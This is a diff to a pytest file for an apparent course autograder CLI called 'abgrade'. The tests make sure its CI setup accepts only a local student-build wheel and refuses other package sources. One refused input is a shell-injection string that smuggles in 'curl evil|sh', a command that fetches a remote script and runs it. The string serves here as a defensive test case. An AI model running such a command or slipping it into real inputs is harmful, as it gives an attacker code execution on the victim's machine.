@@ -9,6 +9,7 @@ import os
 import subprocess
 import sys
 import xml.etree.ElementTree as ET
+import zipfile
 from pathlib import Path
 
 import pytest
@@ -16,6 +17,7 @@ import yaml
 
 from grader.commands.common import UsageError
 from grader.course.config import ConfigError, LabEntry, find_config, load_config, select_labs
+from grader.course.student_build import MARKER
 from grader.course.template_files import template_text
 from grader.course.visible import check_lab
 from grader.labs import get_lab
@@ -300,15 +302,19 @@ def workflow_env(path: Path) -> dict:
     return yaml.safe_load(path.read_text())["env"]
 
 
-@pytest.mark.parametrize(
-    "package",
-    [
-        "abgrade @ git+https://github.com/course/abgrade@v1.2.0",
-        "git+https://gitlab.example.edu/ai/abgrade.git@3f2c1d0",
-        "./ci/abgrade-1.2.0-py3-none-any.whl",
-    ],
-)
-def test_init_ci_writes_the_package_source_given(tmp_path: Path, package: str) -> None:
+def a_student_wheel(path: Path) -> Path:
+    """A wheel marked as a student build, holding nothing a student wheel must not (the real
+    one is built and installed in test_student_wheel.py)."""
+    path.parent.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(path, "w") as wheel:
+        wheel.writestr(MARKER, "{}")
+        wheel.writestr("grader/specs/tree.yaml", "lab: tree\ncases: []\n")
+    return path
+
+
+@pytest.mark.parametrize("package", ["./ci/abgrade-1.2.0+student-py3-none-any.whl", "vendor/abgrade-student.whl"])
+def test_init_ci_writes_the_student_wheel_given(tmp_path: Path, package: str) -> None:
+    a_student_wheel(tmp_path / package)
     done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
     assert done.returncode == 0, done.stderr
     assert workflow_env(tmp_path / ".github" / "workflows" / "abgrade-check.yml") == {"ABGRADE_PACKAGE": package}
@@ -319,15 +325,28 @@ def test_init_ci_writes_the_package_source_given(tmp_path: Path, package: str) -
     [
         ("abgrade", "a name on the package index, which is not a source your course controls"),
         ("abgrade==1.2.0", "a name on the package index, which is not a source your course controls"),
-        ("abgrade @ git+https://github.com/course/abgrade", "a git URL without a tag or commit"),
+        ("abgrade @ git+https://github.com/course/abgrade@v1.2.0", "the full abgrade, with the reference solutions"),
+        ("https://example.edu/abgrade-1.0.0+student-py3-none-any.whl", "a wheel at a URL, which can't be checked"),
+        ("./ci/missing.whl", "no such file here"),
+        ("./ci/not-a-wheel.whl", "not a wheel"),
         ('x"; curl evil|sh; "', "not a pip requirement"),
     ],
-    ids=["bare-name", "pinned-name", "unpinned-git", "quotes"],
+    ids=["bare-name", "pinned-name", "git", "url", "missing", "not-a-wheel", "quotes"],
 )
-def test_init_ci_refuses_sources_the_course_does_not_control(tmp_path: Path, package: str, problem: str) -> None:
+def test_init_ci_refuses_anything_but_the_student_wheel(tmp_path: Path, package: str, problem: str) -> None:
+    (tmp_path / "ci").mkdir()
+    (tmp_path / "ci" / "not-a-wheel.whl").write_text("hello")
     done = abgrade("check", "--init-ci", "--package", package, cwd=tmp_path)
     assert done.returncode == 2 and done.stderr.startswith(f"abgrade: --package {package}: {problem}")
-    assert "git URL pinned to a tag or commit" in done.stderr and len(done.stderr.splitlines()) == 1
+    assert "abgrade student-wheel -o ci" in done.stderr and len(done.stderr.splitlines()) == 1
+    assert not (tmp_path / ".github").exists()
+
+
+def test_init_ci_refuses_two_student_wheels_in_ci(tmp_path: Path) -> None:
+    for version in ("1.0.0", "1.1.0"):
+        a_student_wheel(tmp_path / "ci" / f"abgrade-{version}+student-py3-none-any.whl")
+    done = abgrade("check", "--init-ci", cwd=tmp_path)
+    assert done.returncode == 2 and "several student wheels in ci/" in done.stderr
     assert not (tmp_path / ".github").exists()
 
 
@@ -355,7 +374,7 @@ def test_the_workflow_as_generated_never_installs_from_the_package_index(tmp_pat
         timeout=30,
         env={
             **os.environ,
-            "ABGRADE_PACKAGE": "./ci/abgrade.whl",
+            "ABGRADE_PACKAGE": "./ci/abgrade-1.0.0+student-py3-none-any.whl",
             "PATH": f"{tmp_path}{os.pathsep}{os.environ['PATH']}",
         },
     )
